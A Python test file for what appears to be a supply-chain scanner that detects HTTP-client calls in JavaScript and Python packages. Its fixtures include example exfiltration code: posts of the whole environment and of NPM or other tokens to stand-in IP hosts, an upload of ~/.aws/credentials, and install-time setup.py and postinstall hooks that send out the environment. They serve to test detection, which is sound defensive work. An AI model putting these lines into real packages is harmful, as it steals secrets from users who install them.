"""Calls of third-party HTTP clients are requests of the calling package, with destinations and data.

Importing a client and never calling it stays a dependency (networkViaDependency).
"""

from __future__ import annotations

from pathlib import Path

from egress.analyzers.javascript import JavaScriptAnalyzer
from egress.analyzers.python import PythonAnalyzer
from egress.model import FindingKind, SourceFile, Timing, Verdict
from tests.pipeline import scan_one

JS = b"""const axios = require('axios');
const fetch = require('node-fetch');
import got from 'got';
const { request } = require('undici');
axios.post('http://203.0.113.111/c', { env: process.env });
axios({ url: '/x', baseURL: 'https://api.example.com', method: 'post' });
fetch('https://api.example.com/y');
got.post('https://api.example.com/z', { json: { token: process.env.NPM_TOKEN } });
request('https://api.example.com/u');
const unused = require('superagent');
"""

PY = b"""import os
import requests
import httpx
from urllib3 import PoolManager
import aiohttp
requests.post("http://203.0.113.112/c", json=dict(os.environ))
s = requests.Session()
s.get("https://api.example.com/v1", headers={"X": os.environ["TOKEN"]})
httpx.post("http://203.0.113.77/c", json=dict(os.environ))
PoolManager().request("GET", "https://u.example.com/x")
requests.post("https://x.example.net/u", data=open(os.path.expanduser('~/.aws/credentials')).read())
"""


def _rows(findings):
    return [(f.kind.value, f.api, f.line, tuple(d.text for d in f.destinations), f.data_sources) for f in findings]


def test_javascript_client_calls() -> None:
    analysis = JavaScriptAnalyzer().analyze(SourceFile("c.js", JS))
    assert _rows(analysis.findings) == [
        ("network", "axios.post", 5, ("http://203.0.113.111/c",), ("env",)),
        ("network", "axios", 6, ("https://api.example.com/x",), ()),
        ("network", "node-fetch", 7, ("https://api.example.com/y",), ()),
        ("network", "got.post", 8, ("https://api.example.com/z",), ("env NPM_TOKEN",)),
        ("network", "undici.request", 9, ("https://api.example.com/u",), ()),
        ("dependency", "superagent", 10, (), ()),
    ]


def test_python_client_calls() -> None:
    analysis = PythonAnalyzer().analyze(SourceFile("c.py", PY))
    assert _rows(analysis.findings) == [
        ("dependency", "aiohttp", 5, (), ()),
        ("network", "requests.post", 6, ("http://203.0.113.112/c",), ("env",)),
        ("network", "requests.Session.get", 8, ("https://api.example.com/v1",), ("env TOKEN",)),
        ("network", "httpx.post", 9, ("http://203.0.113.77/c",), ("env",)),
        ("network", "urllib3.PoolManager.request", 10, ("https://u.example.com/x",), ()),
        ("network", "requests.post", 11, ("https://x.example.net/u",), ("file ~/.aws/credentials",)),
    ]


def test_a_setup_py_posting_the_environment_through_requests(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    (root / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1.0"\n')
    (root / "setup.py").write_text('import os, requests\nrequests.post("http://203.0.113.112/c", '
                                   'json=dict(os.environ))\n')
    package = scan_one(root, tmp_path / "c")
    assert package.verdict is Verdict.NETWORK
    got = {(a.type, a.severity.value, a.finding.line) for a in package.alerts}
    assert {("installTimeNetwork", "high", 2), ("exfiltration", "critical", 2),
            ("suspiciousDestination", "high", 2)} <= got
    assert [f.timing for f in package.findings if f.kind is FindingKind.NETWORK] == [Timing.INSTALL]


def test_a_postinstall_posting_the_environment_through_axios(tmp_path: Path) -> None:
    root = tmp_path / "n"
    root.mkdir()
    (root / "package.json").write_text('{"name": "n", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}')
    (root / "install.js").write_text("const axios = require('axios');\n"
                                     "axios.post('http://203.0.113.111/c', {env: process.env});\n")
    package = scan_one(root, tmp_path / "c")
    assert package.verdict is Verdict.NETWORK
    got = {(a.type, a.severity.value, a.finding.file, a.finding.line) for a in package.alerts}
    assert {("installTimeNetwork", "high", "install.js", 2), ("exfiltration", "critical", "install.js", 2),
            ("installScripts", "high", "package.json", 1)} <= got


def test_client_instances_made_by_the_clients_are_clients_too() -> None:
    """`axios.create({baseURL})`, `got.extend()`, `ky.create()` hand out instances whose methods request."""
    code = (b"const axios = require('axios');\n"
            b"const c = axios.create({ baseURL: 'https://api.example.com' });\n"
            b"c.post('/leak', { env: process.env });\n"
            b"const got = require('got');\n"
            b"got.extend({ prefixUrl: 'https://api.example.com' }).get('x');\n"
            b"import ky from 'ky';\n"
            b"const api = ky.create({ prefixUrl: 'https://api.example.com' });\n"
            b"api.get('y');\n")
    found = JavaScriptAnalyzer().analyze(SourceFile("index.mjs", code)).findings
    assert {(f.kind, f.api, f.line, f.data_sources) for f in found} == {
        (FindingKind.NETWORK, "axios.Axios.post", 3, ("env",)),
        (FindingKind.NETWORK, "got.Got.get", 5, ()),
        (FindingKind.NETWORK, "ky.Ky.get", 8, ()),
    }
